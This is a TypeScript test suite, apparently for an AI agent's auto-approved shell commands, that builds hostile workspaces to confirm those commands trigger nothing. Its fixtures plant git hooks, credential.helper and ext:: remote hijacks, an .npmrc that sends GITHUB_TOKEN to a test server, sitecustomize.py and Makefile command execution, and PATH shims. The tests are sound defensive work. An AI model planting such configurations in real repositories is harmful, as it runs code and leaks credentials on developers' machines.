import assert from 'node:assert/strict';
import { dirname } from 'node:path';
import { GIT_COMMANDS } from '../../../src/tools/shell/commands/gitCommands.ts';
import { PLAIN_GIT_SETTINGS } from '../../../src/tools/shell/commands/gitSettings.ts';
import { LOOKING_COMMANDS } from '../../../src/tools/shell/commands/lookingCommands.ts';
import { HARMLESS_COMMANDS } from '../../tools/shell/harmlessCommands.ts';
import { HostileMachine } from './hostileMachine.ts';
import { HOSTILE_REPOSITORIES } from './hostileRepositories.ts';

const COMMIT = `
git init -q; git config user.name a; git config user.email a@b; echo a > README.md
git add README.md; git commit -qm x; git tag v1`;

/** Lines to run: all but those for another folder, and the one that never ends. */
const LINES = HARMLESS_COMMANDS.filter((line) => !/\/home\/u\/app|tail -f/.test(line));
const GIT_LINES = LINES.filter((line) => /^git (?!config)/.test(line));

/** Makes a repository as hostile as one with plain settings can be. */
const WORST = `
for hook in .git/hooks/*.sample; do cp "$ALARM" "\${hook%.sample}"; done; cp "$ALARM" .git/hooks/post-index-change
git config core.hooksPath .git/hooks; git config core.editor "$ALARM"; git config core.sshCommand "$ALARM"
git config credential.helper "!$ALARM"; git config http.proxy "$ADDRESS"; git config remote.origin.url "ext::$ALARM"
git config "url.$ADDRESS.insteadOf" git@; git config commit.gpgSign true; git config user.signingKey x
git config branch.main.remote "$ADDRESS"; git config maintenance.auto true
touch -t 200001010000 README.md src/*`;

/** Files that configure tools, here and in the folder above. */
function writeSettings(machine: HostileMachine): void {
  const { alarm, address } = machine;
  for (const folder of ['', '../']) {
    machine.write(
      `${folder}.npmrc`,
      `registry=${address}/\${GITHUB_TOKEN}/\nnode-options=--require ${alarm}\n`,
    );
    machine.write(`${folder}.yarnrc.yml`, `yarnPath: ${alarm}\n`);
    machine.write(`${folder}.tool-versions`, `any path:${alarm}\n`);
    machine.write(`${folder}.ripgreprc`, `--pre=${alarm}\n`);
    machine.write(`${folder}.node-version`, '../../evil\n');
    machine.write(`${folder}.python-version`, '../../evil\n');
    machine.write(`${folder}.lfsconfig`, `[lfs]\n\turl = ${address}\n`);
    machine.write(`${folder}.ignore`, '!*\n');
    machine.write(`${folder}.jq`, 'def keys: env;\n');
    machine.write(`${folder}.envrc`, `${alarm}\n`);
    machine.write(`${folder}Makefile`, `$(shell ${alarm})\nall:\n\t${alarm}\n`);
    machine.write(`${folder}sitecustomize.py`, `import os; os.system('${alarm}')\n`);
    machine.write(`${folder}node.config.json`, `{"nodeOptions": {"import": "${alarm}"}}`);
    machine.write(
      `${folder}package.json`,
      `{"name": "a", "packageManager": "yarn@${address}/x.js", "volta": {"node": "1.0.0"}}`,
    );
  }
  for (const name of ['ls', 'git', 'cat', 'node'])
    machine.write(`bin/${name}`, `#!/bin/sh\n${alarm} ${name}\n`);
  machine.write('.gitattributes', '* filter=x diff=x merge=x\n');
  for (const name of ['src/a.ts', 'src/b.ts', 'a.txt', 'b.txt', 'data.csv', 'log.txt', 'a.bin'])
    machine.write(name, 'a\nb\n');
}

/** A version manager: its programs run what a file of the workspace names. */
function installShims(machine: HostileMachine): void {
  for (const name of ['node', 'python3', 'jq', 'make', 'timeout'])
    machine.write(
      `${machine.home}/.asdf/shims/${name}`,
      '#!/bin/sh\nexec "$(sed -n \'s/^any path://p\' .tool-versions)" "$@"\n',
    );
}

describe('commands that run without a question, in a hostile workspace', () => {
  it('are all tried here', () => {
    const words = new Set(LINES.flatMap((line) => line.split(/[\s;&|()]+/)));
    assert.deepEqual(
      [...LOOKING_COMMANDS.keys()].filter((name) => !words.has(name)),
      [],
    );
    assert.deepEqual(
      [...GIT_COMMANDS.keys()].filter((name) => !LINES.some((line) => `${line} `.includes(`git ${name} `))),
      [],
    );
  });

  it('start nothing, ask no server, write nothing and show no secret, whatever its files configure', async () => {
    await using machine = await HostileMachine.create(({ workspace }) => ({
      RIPGREP_CONFIG_PATH: '.ripgreprc',
      GIT_DIR: `${workspace}/evil`,
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'log.showSignature',
      GIT_CONFIG_VALUE_0: 'true',
    }));
    writeSettings(machine);
    await machine.runInTerminal(
      `mkdir evil; cd evil; unset GIT_DIR; git init -q --bare; git config core.fsmonitor "$ALARM"; cd ..; ${COMMIT}; git add -A; git commit -qm y; ${WORST}`,
    );
    const free = await machine.findFree(LINES);
    assert.deepEqual(
      LINES.filter((line) => !free.includes(line)),
      [],
    );
    assert.deepEqual(await machine.observeHarm(() => machine.run(free)), []);
    assert.match(await machine.run(['git status']), /^On branch/);
  }).timeout(60_000);

  it('are none that a file of the workspace configures', async () => {
    await using machine = await HostileMachine.create(() => ({
      PATH: `${dirname(process.execPath)}:/usr/bin:/bin`,
    }));
    writeSettings(machine);
    const lines = ['npm ls', 'npm --version', 'npx --version', 'yarn -v', 'java -version', 'pip -V'];
    assert.deepEqual(await machine.findFree(lines), []);
    const harm = await machine.observeHarm(() => machine.runInTerminal('npm ls'));
    assert.ok(harm.includes('asked GET /canary/npm HTTP/1.1'), harm.join('\n'));
    assert.ok(
      harm.some((one) => /^wrote home\/\.npm\/_logs\//.test(one)),
      harm.join('\n'),
    );
  }).timeout(20_000);

  it('are none of a version manager, which runs what a file of the workspace names', async () => {
    await using machine = await HostileMachine.create(({ home }) => ({
      PATH: `${home}/.asdf/shims:/usr/bin:/bin`,
    }));
    writeSettings(machine);
    installShims(machine);
    const lines = [
      'node --version',
      'python3 -V',
      'jq . package.json',
      'cat a.txt | jq',
      'timeout 5 ls',
      'make --version',
    ];
    assert.deepEqual(await machine.findFree([...lines, 'ls', '/usr/bin/jq . package.json']), [
      'ls',
      '/usr/bin/jq . package.json',
    ]);
    for (const line of lines)
      assert.notDeepEqual(await machine.observeHarm(() => machine.runInTerminal(line)), [], line);
  });

  it('are none of the workspace, wherever on the PATH it is', async () => {
    for (const folder of ['$PWD/bin', 'bin', '.', '']) {
      await using machine = await HostileMachine.create(({ workspace }) => ({
        PATH: `${folder.replace('$PWD', workspace)}:/usr/bin:/bin`,
      }));
      writeSettings(machine);
      machine.write('cat', `#!/bin/sh\n${machine.alarm} cat\n`);
      assert.deepEqual(await machine.findFree(['cat a.txt', '/bin/cat a.txt']), ['/bin/cat a.txt'], folder);
      assert.notDeepEqual(await machine.observeHarm(() => machine.runInTerminal('cat a.txt')), [], folder);
    }
  });

  for (const { name, script, line } of HOSTILE_REPOSITORIES)
    it(`do no harm in a repository with ${name}`, async () => {
      await using machine = await HostileMachine.create();
      await machine.runInTerminal(`${COMMIT}; ${script}`);
      const free = await machine.findFree([...new Set([line, ...GIT_LINES])]);
      assert.deepEqual(await machine.observeHarm(() => machine.run(free)), []);
      assert.notDeepEqual(
        await machine.observeHarm(() => machine.runInTerminal(line)),
        [],
        'not hostile at all',
      );
    }).timeout(30_000);

  it('never use a setting that is taken for plain', async () => {
    await using machine = await HostileMachine.create();
    await machine.runInTerminal(`${COMMIT}; cp .git/config ../config`);
    const settings = Object.entries(PLAIN_GIT_SETTINGS).flatMap(([section, names]) =>
      names
        .split(/\s+/)
        .map((name) => `${section}.${name === '*' ? 'program' : name}`.replace('.*', '.main')),
    );
    assert.ok(settings.length > 100, String(settings.length));
    const lines = settings.map(
      (setting) => `
        cp ../config .git/config; git config ${setting} '${machine.alarm}'; touch README.md
        for command in status diff 'log -p' 'grep a' 'branch -vv' 'blame README.md'; do git $command; done`,
    );
    const harm = await machine.observeHarm(() => machine.run(lines));
    assert.deepEqual(
      harm.filter(
        (one) => !/^(?:wrote|changed) projects\/(?:app\/(?:README\.md|\.git|\.git\/config) |app )/.test(one),
      ),
      [],
    );
  }).timeout(60_000);
});
